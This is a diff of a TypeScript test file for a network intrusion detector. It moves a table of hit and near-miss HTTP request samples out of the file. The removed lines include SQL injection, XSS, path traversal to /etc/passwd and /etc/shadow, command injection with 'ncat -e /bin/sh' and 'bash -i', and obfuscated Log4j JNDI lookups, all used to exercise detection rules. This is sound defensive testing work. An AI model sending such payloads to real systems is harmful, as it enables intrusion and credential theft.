@@ -4,83 +4,15 @@ import type { Packet } from '../../../../lib/packet/types';
 import { defaultRules } from '../../../../lib/detect/payload/detector';
 import { PayloadMatcher, ruleApplies, hitEvidence } from '../../../../lib/detect/payload/matcher';
 import { compileRules } from '../../../../lib/detect/payload/rules';
+import { PAYLOAD_CASES as CASES, httpGet as get, httpPost as post } from '../../../support/payload-samples';
 
 function pkt(payload: string | Buffer, o: Partial<Packet> = {}): Packet {
   const buf = typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload;
   return { ts: 1_700_000_000_000, len: buf.length + 54, caplen: buf.length + 54, ip: 4, src: '10.0.0.2', dst: '10.0.0.1', proto: 'tcp', sport: 43512, dport: 80, payload: buf, ...o };
 }
 
-const get = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: shop.lan\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n`;
-const post = (body: string, type = 'application/x-www-form-urlencoded'): string =>
-  `POST /login HTTP/1.1\r\nHost: shop.lan\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
-
 const matcher = new PayloadMatcher(defaultRules());
 const ruleIds = (p: Packet): string[] => matcher.match(p).map((h) => h.rule.id).sort();
-
-/** Per default rule: payloads that must hit it, and near misses that must not. */
-const CASES: Record<string, { hit: string[]; miss: string[] }> = {
-  'payload.sqli.union': {
-    hit: [get('/item?id=1 UNION SELECT 1,2,3'), get('/item?id=1%20union%20all%20select%20null,null--'), get('/item?id=1/**/UNION/**/SELECT/**/password'), get('/item?id=1+UnIoN+DISTINCT+SeLeCt+1'), get('/i?id=-1 union(select 1)'), get('/i?id=1 /*!50000union*/ /*!50000select*/ 1')],
-    miss: [get('/news?title=trade+union+selects+leader'), get('/unions/select-a-plan')],
-  },
-  'payload.sqli.tautology': {
-    hit: [post("user=admin' or 1=1--&pw=x"), post("user=admin%27+or+%271%27%3D%271&pw=x"), get("/item?id=1 AND 5586=5586"), get("/item?id=1') AND 'XyZa'='XyZa"), get('/q?a=1" or "x"="x'), get("/q?u=x'or'1'='1"), get('/q?id=1||2=2')],
-    miss: [get('/search?q=rock+and+roll&page=1'), get('/calc?expr=1 or 2=3'), get("/users?name=O'Brien&sort=asc"), post('{"a":"x","or":1}', 'application/json')],
-  },
-  'payload.sqli.drop_table': {
-    hit: [get("/i?id=1';DROP TABLE users--"), get('/i?id=1;drop/**/table/**/x')],
-    miss: [get('/docs/drop-tables-guide'), post('text=please drop the table cloth')],
-  },
-  'payload.sqli.sleep': {
-    hit: [get('/i?id=1 AND SLEEP(5)'), get("/i?id=1;SELECT pg_sleep(10)"), get("/i?id=1;WAITFOR DELAY '0:0:5'")],
-    miss: [get('/blog/sleep-well'), get('/api/sleep?hours=8')],
-  },
-  'payload.sqli.benchmark': {
-    hit: [get('/i?id=1 AND BENCHMARK(5000000,MD5(1))')],
-    miss: [get('/benchmarks/results?run=3')],
-  },
-  'payload.sqli.information_schema': {
-    hit: [get('/i?id=1 union select table_name from information_schema.tables')],
-    miss: [get('/information/schema.json')],
-  },
-  'payload.sqli.stacked': {
-    hit: [get("/i?id=1; SELECT * FROM users"), get('/i?id=1;insert into log values(1)'), get('/i?id=1; update users set admin=1'), get('/i?id=1;DELETE FROM users'), get('/i?id=1; drop table users')],
-    miss: [post('msg=hello; select your seat please'), get('/a;jsessionid=1234?update=now')],
-  },
-  'payload.xss.script': {
-    hit: [get('/s?q=<script>alert(1)</script>'), get('/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E'), get('/s?q=%253CScRiPt%253E')],
-    miss: [get('/js/scripts/app.js'), get('/s?q=description+of+scripts')],
-  },
-  'payload.xss.event_handler': {
-    hit: [get('/s?q=<img src=x onerror=alert(1)>'), get('/s?q=<svg/onload=alert(1)>'), get('/s?q=x" onmouseover="alert(1)'), get('/s?q=<details open ontoggle=alert(1)>'), get('/s?q=<svg><animate onbegin=alert(1) attributeName=x>'), get('/s?q=<body onpageshow=alert(1)>')],
-    miss: [get('/s?onload=1&online=yes'), get('/settings?notification=on')],
-  },
-  'payload.xss.javascript_uri': {
-    hit: [get('/r?url=javascript:alert(document.domain)'), get('/r?url=JaVaScRiPt%3Aalert(1)')],
-    miss: [get('/docs/javascript/intro'), get('/r?lang=javascript&v=2')],
-  },
-  'payload.traversal.dotdot': {
-    hit: [get('/download?file=../../../etc/hosts'), get('/download?file=..%2f..%2fapp.conf'), get('/download?file=%252e%252e%252fsecret'), get('/f?p=..\\..\\boot.ini'), get('/f?p=..%c0%afx')],
-    miss: [get('/a/b/c.html'), get('/files/v1..2/notes.txt'), get('/search?q=wait...')],
-  },
-  'payload.traversal.sensitive_file': {
-    hit: [get('/f?p=/etc/passwd'), get('/f?p=%2Fetc%2Fshadow'), get('/f?p=C:\\windows\\win.ini'), get('/f?p=/proc/self/environ')],
-    miss: [get('/etc/passwords-policy.html'), get('/docs/etcetera')],
-  },
-  'payload.cmdi.chained': {
-    hit: [get('/ping?host=127.0.0.1;cat /etc/hosts'), get('/ping?host=127.0.0.1|id'), get('/ping?host=x%26%26whoami'), get('/ping?host=1.1.1.1;+uname+-a'),
-      get('/ping?host=x;bash+-i'), get('/ping?host=x|++id'), get('/ping?host=x;%09cat+/etc/hosts'), get('/ping?host=x%26ncat+-e+/bin/sh+h+1'), get('/ping?host=x|python3+-c+1')],
-    miss: [get('/page?a=1&id=2&cat=3'), `GET / HTTP/1.1\r\nHost: x\r\nCookie: sid=1; id=77; cat=dogs\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n`],
-  },
-  'payload.cmdi.substitution': {
-    hit: [get('/ping?host=$(id)'), get('/ping?host=%60whoami%60'), get('/ping?host=$(cat /etc/hosts)'), get('/ping?host=%60 id%60')],
-    miss: [post('code=$(document).ready(fn)'), get('/price?usd=$(10)')],
-  },
-  'payload.log4j.jndi': {
-    hit: [`GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: \${jndi:ldap://10.0.0.2:1389/a}\r\n\r\n`, get('/?x=%24%7Bjndi%3Armi%3A%2F%2F10.0.0.2%2Fa%7D'), get('/?x=${${lower:j}ndi:ldap://h/a}'), get('/?x=${${::-j}${::-n}${::-d}${::-i}:dns://h/a}'), get('/?x=${j${env:NaN:-n}di${env:NaN:-:}ldap://h/a}')],
-    miss: [get('/?template=${name}&x=${user.id}'), post('cfg=${java.version}')],
-  },
-};
 
 describe('default payload rules', () => {
   it('has a positive case for every default rule', () => {
